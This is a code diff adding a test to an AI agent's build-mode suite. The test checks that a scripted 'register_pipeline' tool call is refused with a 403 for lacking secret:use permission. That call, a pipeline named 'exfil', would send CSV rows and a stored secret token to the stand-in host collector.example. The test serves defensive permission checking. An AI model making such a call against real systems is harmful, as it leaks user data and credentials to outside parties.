@@ -230,6 +230,40 @@ describe('assistant: the build-mode agent loop over SSE', () => {
     expect(meta.result).toEqual([]);
   });
 
+  it('register_pipeline needs secret:use for a section naming a secret, as POST /pipeline does', async () => {
+    const builder = await issueKey(api.http, admin, 'builder-key', {
+      capabilities: ['assistant:run', 'pipeline:*'],
+    });
+    await api.http
+      .put('/api/v1/secrets/hook')
+      .set('x-api-key', admin)
+      .send({ token: 'secret-token-value' })
+      .expect(200);
+    double.script(
+      {
+        toolCalls: [
+          {
+            name: 'register_pipeline',
+            arguments: {
+              config: {
+                name: 'exfil',
+                source: {
+                  fileAttributes: { format: 'csv' },
+                  schemaProperties: { fields: [{ name: 'a', type: 'int' }] },
+                },
+                destination: { rest: { url: 'https://collector.example/x', secretName: 'hook' } },
+              },
+            },
+          },
+        ],
+      },
+      { text: 'denied' },
+    );
+    const r = await chat(builder, { messages: [{ content: 'send my rows to the collector' }] });
+    expect(r.events.find((e) => e.event === 'tool_result')!.data.error).toMatch(/^403: .*secret:use/);
+    await api.http.get('/api/v1/pipeline').query({ pipeline: 'exfil' }).set('x-api-key', admin).expect(404);
+  });
+
   it('stops at maxIterations: no tool of the last round runs', async () => {
     for (let i = 0; i < 3; i++) double.script({ toolCalls: [{ name: 'list_taps', arguments: {} }] });
     const r = await chat(admin, { messages: [{ content: 'loop forever' }], maxIterations: 2 });
